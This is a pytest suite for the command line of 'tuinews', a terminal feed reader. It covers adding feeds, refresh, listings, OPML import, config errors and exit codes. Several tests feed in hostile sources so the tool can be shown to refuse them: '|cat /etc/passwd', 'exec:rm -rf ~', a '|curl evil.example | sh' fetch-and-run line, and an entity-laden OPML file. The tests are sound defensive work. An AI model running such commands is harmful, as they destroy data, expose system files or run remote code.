"""The command line as a user types it: output, exit codes, errors, JSON."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT
from feedgen import numbered_items, rss

SAMPLES = ROOT / "sample_feeds"


@pytest.fixture
def feed_file(tmp_path: Path) -> Path:
    path = tmp_path / "news.xml"
    path.write_bytes(rss(numbered_items(3), title="Morning News"))
    return path


def touch_later(path: Path) -> None:
    """Make sure a rewrite is seen as a change even on coarse-mtime filesystems."""
    stat = path.stat()
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))


def test_add_imports_a_local_feed_at_once(cli, feed_file: Path) -> None:
    result = cli("add", str(feed_file), "--tag", "daily", "--tag", "local,daily")
    assert result.code == 0
    assert "Morning News" in result.out and "3 articles" in result.out

    (feed,) = json.loads(cli("feeds", "--json").out)
    assert feed["title"] == "Morning News"
    assert feed["source"] == str(feed_file)
    assert feed["tags"] == ["daily", "local"]
    assert (feed["unread"], feed["total"]) == (3, 3)
    assert feed["last_error"] is None and feed["last_refresh"]


def test_add_accepts_file_urls_and_a_users_title(cli, feed_file: Path) -> None:
    assert cli("add", feed_file.as_uri(), "--title", "My paper").code == 0
    assert json.loads(cli("feeds", "--json").out)[0]["title"] == "My paper"


def test_adding_the_same_source_twice_is_refused(cli, feed_file: Path) -> None:
    cli("add", str(feed_file))
    again = cli("add", str(feed_file))
    assert again.code == 1
    assert "already in the library" in again.err
    assert len(json.loads(cli("feeds", "--json").out)) == 1


@pytest.mark.parametrize(
    "source", ["exec:~/bin/news.sh", "filter:x.sh:https://a.example/", "|cat /etc/passwd"]
)
def test_program_sources_do_not_exist(cli, source: str) -> None:
    result = cli("add", source)
    assert result.code == 1
    assert result.err.count("\n") == 1 and "refused" in result.err
    assert json.loads(cli("feeds", "--json").out) == []


def test_a_file_that_is_not_a_feed_is_not_left_behind(cli, tmp_path: Path) -> None:
    empty = tmp_path / "empty.xml"
    empty.write_bytes(b"")
    result = cli("add", str(empty))
    assert result.code == 1
    assert result.err.count("\n") == 1 and result.err.startswith(f"tuinews: {empty}: not a feed")
    assert "nothing was added" in result.err
    assert json.loads(cli("feeds", "--json").out) == []


def test_missing_local_source_is_one_line_on_stderr(cli, tmp_path: Path) -> None:
    result = cli("add", str(tmp_path / "nowhere.xml"))
    assert result.code == 1
    assert result.err == f"tuinews: {tmp_path / 'nowhere.xml'}: no such file or folder\n"


def test_refresh_picks_up_changes_and_skips_unchanged_files(cli, feed_file: Path) -> None:
    cli("add", str(feed_file))
    assert "0 new articles, 0 updated" in cli("refresh").out

    feed_file.write_bytes(rss(numbered_items(5), title="Morning News"))
    touch_later(feed_file)
    assert "2 new articles, 0 updated" in cli("refresh").out
    assert len(json.loads(cli("articles", "--json").out)) == 5


def test_a_source_that_breaks_keeps_its_articles_and_shows_the_error(cli, feed_file: Path) -> None:
    cli("add", str(feed_file))
    feed_file.write_bytes(b"<html><body>Gone fishing</body></html>")
    touch_later(feed_file)

    result = cli("refresh")
    assert result.code == 1
    assert result.err == f"tuinews: {feed_file}: not a feed: got an HTML page\n"
    (feed,) = json.loads(cli("feeds", "--json").out)
    assert feed["total"] == 3
    assert feed["last_error"] == "not a feed: got an HTML page"
    assert "! not a feed" in cli("feeds").out

    feed_file.write_bytes(rss(numbered_items(3), title="Morning News"))
    touch_later(feed_file)
    assert cli("refresh").code == 0
    assert json.loads(cli("feeds", "--json").out)[0]["last_error"] is None


def test_one_failing_source_does_not_stop_the_others(cli, tmp_path: Path) -> None:
    good, bad = tmp_path / "good.xml", tmp_path / "bad.xml"
    good.write_bytes(rss(numbered_items(2)))
    bad.write_bytes(b"")
    cli("add", str(good))
    cli("add", str(bad), "--keep")  # a broken source stays, with its error
    good.write_bytes(rss(numbered_items(4)))
    touch_later(good)

    result = cli("refresh")
    assert result.code == 1
    assert "2 new articles" in result.out
    assert f"{bad}: not a feed: the document is empty" in result.err


def test_refresh_named_feeds_only(cli, tmp_path: Path) -> None:
    first, second = tmp_path / "first.xml", tmp_path / "second.xml"
    for path in (first, second):
        path.write_bytes(rss(numbered_items(1), title=path.stem))
        cli("add", str(path))
        path.write_bytes(rss(numbered_items(2), title=path.stem))
        touch_later(path)
    assert "1 source: 1 new articles" in cli("refresh", "first").out
    counts = {f["title"]: f["total"] for f in json.loads(cli("feeds", "--json").out)}
    assert counts == {"first": 2, "second": 1}


def test_articles_lists_newest_first_with_filters(cli, feed_file: Path) -> None:
    cli("add", str(feed_file))
    rows = json.loads(cli("articles", "--json").out)
    assert [row["title"] for row in rows] == ["Story 2", "Story 1", "Story 0"]
    assert rows[0]["published"] == "2023-11-15T00:13:20Z"  # 1_700_000_000 + 2 h, in UTC
    assert rows[0]["feed"] == "Morning News" and rows[0]["link"] == "https://test.example/2"

    assert cli("mark", str(rows[0]["id"]), "--read").code == 0
    assert cli("mark", str(rows[1]["id"]), "--star").code == 0
    unread = json.loads(cli("articles", "--unread", "--json").out)
    assert [row["title"] for row in unread] == ["Story 1", "Story 0"]
    starred = json.loads(cli("articles", "--starred", "--json").out)
    assert [row["title"] for row in starred] == ["Story 1"]
    limited = json.loads(cli("articles", "--limit", "1", "--feed", "Morning News", "--json").out)
    assert [row["title"] for row in limited] == ["Story 2"]


def test_articles_text_output_has_one_row_per_article(cli, feed_file: Path) -> None:
    cli("add", str(feed_file))
    lines = cli("articles").out.splitlines()
    assert lines[0].split() == ["ID", "DATE", "FLAGS", "FEED", "TITLE"]
    assert len(lines) == 4 and lines[1].endswith("Story 2")


def test_mark_unknown_article_is_a_usage_error(cli) -> None:
    result = cli("mark", "999", "--read")
    assert result.code == 2
    assert "no article with id 999" in result.err


def test_mark_needs_exactly_one_state(cli) -> None:
    result = cli("mark", "1", "--read", "--star")
    assert result.code == 2 and "not allowed with argument" in result.err


def test_show_prints_the_article_as_text(cli, tmp_path: Path) -> None:
    feed = tmp_path / "rich.xml"
    body = (
        "<h2>Background</h2><p>First <b>bold</b> paragraph with a "
        '<a href="https://more.example/x">link</a>.</p><ul><li>one</li><li>two</li></ul>'
        "<script>alert('no')</script>"
    )
    feed.write_bytes(rss([{"guid": "a", "title": "Rich story", "body": body}], title="Paper"))
    cli("add", str(feed))
    (row,) = json.loads(cli("articles", "--json").out)

    shown = cli("show", str(row["id"]))
    assert shown.code == 0
    assert shown.out.startswith("Rich story\n")
    assert "Paper" in shown.out
    assert "First bold paragraph with a link [1]." in shown.out
    assert "• one" in shown.out
    assert "[1] https://more.example/x" in shown.out
    assert "<b>" not in shown.out and "alert" not in shown.out


def test_remove_asks_nothing_off_a_terminal_and_keeps_starred(cli, feed_file: Path) -> None:
    cli("add", str(feed_file))
    rows = json.loads(cli("articles", "--json").out)
    cli("mark", str(rows[0]["id"]), "--star")

    result = cli("remove", "Morning News")
    assert result.code == 0 and "kept 1 starred" in result.out
    assert json.loads(cli("feeds", "--json").out) == []
    (kept,) = json.loads(cli("articles", "--json").out)
    assert kept["title"] == "Story 2" and kept["feed"] == "Morning News"


def test_remove_unknown_feed_is_a_usage_error(cli) -> None:
    result = cli("remove", "Nope")
    assert result.code == 2 and "no feed with id or title 'Nope'" in result.err


def test_opml_round_trip_keeps_folders_as_tags(
    cli, tmp_path: Path, feed_file: Path, server
) -> None:
    world = rss(numbered_items(2, prefix="World"), title="World News")
    server.routes["/rss"] = lambda handler: handler.reply(200, world)
    cli("add", str(feed_file), "--tag", "local")
    assert cli("add", server.url("/rss"), "--tag", "world", "--title", "World").code == 0
    exported = tmp_path / "subs.opml"
    assert cli("export-opml", str(exported)).code == 0

    other = tmp_path / "other.db"
    result = subprocess.run(
        [sys.executable, "-m", "tuinews", "--db", str(other), "import-opml", str(exported)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    listed = subprocess.run(
        [sys.executable, "-m", "tuinews", "--db", str(other), "feeds", "--json"],
        capture_output=True,
        text=True,
        check=True,
    )
    feeds = {f["title"]: f for f in json.loads(listed.stdout)}
    assert feeds["Morning News"]["tags"] == ["local"]
    assert feeds["Morning News"]["total"] == 3  # local sources are imported at once
    assert feeds["World"]["source"] == server.url("/rss")
    assert feeds["World"]["total"] == 2  # web sources too
    assert feeds["World"]["tags"] == ["world"]


def test_opml_import_refuses_non_feed_sources_and_keeps_the_rest(
    cli, tmp_path: Path, feed_file: Path
) -> None:
    opml = tmp_path / "mixed.opml"
    opml.write_text(
        '<?xml version="1.0"?><opml version="2.0"><head/><body>'
        '<outline text="Tech"><outline text="ok" xmlUrl="news.xml"/>'
        '<outline text="cmd" xmlUrl="exec:rm -rf ~"/></outline>'
        '<outline text="pipe" xmlUrl="|curl evil.example | sh"/>'
        "</body></opml>"
    )
    result = cli("import-opml", str(opml))
    assert result.code == 1
    assert result.err.count("refused") == 2
    (feed,) = json.loads(cli("feeds", "--json").out)
    assert feed["source"] == str(feed_file)  # relative to the OPML file's folder
    assert feed["tags"] == ["Tech"]


def test_opml_with_entities_is_refused(cli, tmp_path: Path) -> None:
    opml = tmp_path / "bomb.opml"
    opml.write_text(
        '<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa">]>'
        '<opml version="2.0"><body><outline text="&a;" xmlUrl="https://a.example/"/></body></opml>'
    )
    result = cli("import-opml", str(opml))
    assert result.code == 1 and "refused" in result.err


def test_vacuum_with_no_option_deletes_nothing_and_shrinks_the_library(
    cli, feed_file: Path, tmp_path: Path, db_path: Path
) -> None:
    big = tmp_path / "big.xml"
    big.write_bytes(rss(numbered_items(200, body="<p>" + "padding " * 1000 + "</p>"), title="Big"))
    cli("add", str(feed_file))
    cli("add", str(big))
    assert cli("remove", "Big", "--yes").code == 0
    size_with_free_pages = db_path.stat().st_size

    assert "deleted 0 articles" in cli("vacuum").out
    assert db_path.stat().st_size < size_with_free_pages / 2
    assert len(json.loads(cli("articles", "--json").out)) == 3


def test_vacuum_keep_per_feed_deletes_older_read_articles(cli, feed_file: Path) -> None:
    cli("add", str(feed_file))
    rows = json.loads(cli("articles", "--json").out)
    cli("mark", *[str(row["id"]) for row in rows], "--read")
    assert "deleted 2 articles" in cli("vacuum", "--keep-per-feed", "1").out
    assert len(json.loads(cli("articles", "--json").out)) == 1


def test_bad_usage_exits_2_with_one_line_naming_the_command(cli) -> None:
    result = cli("articles", "--limit", "-3")
    assert result.code == 2
    assert result.err.count("\n") == 1 and "usage:" not in result.err
    assert result.err.startswith("tuinews: articles: argument --limit: must not be negative")


def test_an_unknown_feed_is_a_usage_error_in_one_line(cli) -> None:
    result = cli("articles", "--feed", "Nowhere")
    assert result.code == 2
    assert result.err == "tuinews: no feed with id or title 'Nowhere'\n"


def open_library(db_path: Path):
    from tuinews.config import Config
    from tuinews.library import Library

    return Library(Config(db_path=db_path))


def test_first_run_imports_the_sample_library_from_a_copy(
    db_path: Path, cli, isolated_home: Path
) -> None:
    """What `tuinews` with no command does before it opens the reader."""
    with open_library(db_path) as library:
        results = library.import_samples_if_new()
        assert results and all(result.outcome and not result.outcome.error for result in results)
        assert library.import_samples_if_new() == []  # only once
    feeds = json.loads(cli("feeds", "--json").out)
    assert {feed["title"] for feed in feeds} >= {"Field Notes", "World Briefing"}
    assert all(feed["last_error"] is None and feed["total"] > 0 for feed in feeds)
    assert len(feeds) == len([p for p in SAMPLES.iterdir() if not p.name.startswith(".")])
    copy = isolated_home / ".local" / "share" / "tuinews" / "sample_feeds"
    assert all(Path(feed["source"]).is_relative_to(copy) for feed in feeds)  # not site-packages


def test_samples_never_come_back_into_a_library_the_user_emptied(db_path: Path, cli) -> None:
    with open_library(db_path) as library:
        library.import_samples_if_new()
    result = cli("remove", "--samples")
    assert result.code == 0 and result.out.count("removed") == len(list(SAMPLES.iterdir()))
    assert json.loads(cli("feeds", "--json").out) == []
    with open_library(db_path) as library:
        assert library.import_samples_if_new() == []
    assert json.loads(cli("feeds", "--json").out) == []


def test_a_library_that_began_with_the_users_own_feed_gets_no_samples(
    db_path: Path, cli, feed_file: Path
) -> None:
    cli("add", str(feed_file))
    with open_library(db_path) as library:
        assert library.import_samples_if_new() == []
    assert [feed["title"] for feed in json.loads(cli("feeds", "--json").out)] == ["Morning News"]


def test_importing_an_opml_file_twice_reports_once_and_succeeds(
    cli, tmp_path: Path, feed_file: Path
) -> None:
    other = tmp_path / "other.xml"
    other.write_bytes(rss(numbered_items(1, prefix="Other"), title="Other"))
    opml = tmp_path / "subs.opml"
    opml.write_text(
        '<?xml version="1.0"?><opml version="2.0"><head/><body>'
        '<outline text="a" xmlUrl="news.xml"/><outline text="b" xmlUrl="other.xml"/>'
        "</body></opml>"
    )
    assert cli("import-opml", str(opml)).code == 0
    again = cli("import-opml", str(opml))
    assert again.code == 0
    assert again.out == "2 already in the library\n" and again.err == ""
    assert len(json.loads(cli("feeds", "--json").out)) == 2


def test_a_listing_cut_short_by_head_ends_quietly(db_path: Path, tmp_path: Path) -> None:
    folder = tmp_path / "many"
    folder.mkdir()
    for number in range(400):
        (folder / f"{number:03}.txt").write_text(f"Story {number}\n\nBody {number}.\n")
    command = [sys.executable, "-m", "tuinews", "--db", str(db_path)]
    subprocess.run([*command, "add", str(folder)], check=True, capture_output=True)
    reader = subprocess.Popen(
        [*command, "articles"], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert reader.stdout is not None
    reader.stdout.readline()
    reader.stdout.close()  # what `| head -1` does once it has its line
    _, err = reader.communicate()
    assert reader.returncode == 0
    assert err == b""


def test_a_file_that_is_not_a_library_is_named_with_what_to_do(cli, db_path: Path) -> None:
    db_path.write_text("my shopping list\n" * 100)
    result = cli("feeds")
    assert result.code == 1
    assert result.err.startswith(f"tuinews: {db_path}: not a tuinews library")
    assert "unexpected" not in result.err


def test_db_can_come_from_the_environment(tmp_path: Path, feed_file: Path) -> None:
    env = {**os.environ, "TUINEWS_DB": str(tmp_path / "env.db")}
    subprocess.run([sys.executable, "-m", "tuinews", "add", str(feed_file)], env=env, check=True)
    assert (tmp_path / "env.db").exists()


def test_config_file_sets_the_library_path(isolated_home: Path, tmp_path: Path) -> None:
    config = isolated_home / ".config" / "tuinews" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(f'[library]\ndb = "{tmp_path / "from-config.db"}"\n')
    subprocess.run([sys.executable, "-m", "tuinews", "feeds"], env={**os.environ}, check=True)
    assert (tmp_path / "from-config.db").exists()


def feeds_with_config(home: Path, settings: str) -> tuple[Path, subprocess.CompletedProcess]:
    """`tuinews feeds` in a new process, with `settings` as the user's config.toml."""
    config = home / ".config" / "tuinews" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(settings)
    result = subprocess.run(
        [sys.executable, "-m", "tuinews", "feeds"], capture_output=True, text=True, check=False
    )
    return config, result


def test_broken_config_is_one_line_not_a_traceback(isolated_home: Path) -> None:
    _, result = feeds_with_config(isolated_home, "[library\n")
    assert result.returncode == 1
    assert result.stderr.startswith("tuinews: ") and result.stderr.count("\n") == 1
    assert "Traceback" not in result.stderr


def test_installed_command_runs(tmp_path: Path) -> None:
    """The console script a user gets from `pip install .`."""
    command = shutil.which("tuinews", path=str(Path(sys.executable).parent))
    assert command, "pip install should put a tuinews command next to python"
    result = subprocess.run(
        [command, "--db", str(tmp_path / "x.db"), "--version"], capture_output=True, text=True
    )
    assert result.returncode == 0 and result.stdout.startswith("tuinews ")


@pytest.mark.parametrize(
    "settings",
    [
        "[keys]\nnext_unread = 3\n",
        "[reading]\nmark_read_on_open = 'yes'\n",
        "keys = 1\n",
        "[refresh]\nauto_refresh_minutes = -5\n",
        "[refresh]\nmax_download_mb = 0\n",
    ],
)
def test_config_mistakes_are_named(isolated_home: Path, settings: str) -> None:
    config, result = feeds_with_config(isolated_home, settings)
    assert result.returncode == 1
    assert result.stderr.startswith(f"tuinews: {config}: ") and result.stderr.count("\n") == 1


def test_a_misspelt_setting_is_named_and_the_command_still_runs(isolated_home: Path) -> None:
    config, result = feeds_with_config(isolated_home, "[refresh]\nmax_downlod_mb = 5\n")
    assert result.returncode == 0
    assert result.stderr.startswith(f"tuinews: {config}: unknown setting refresh.max_downlod_mb")
    assert result.stderr.count("\n") == 1
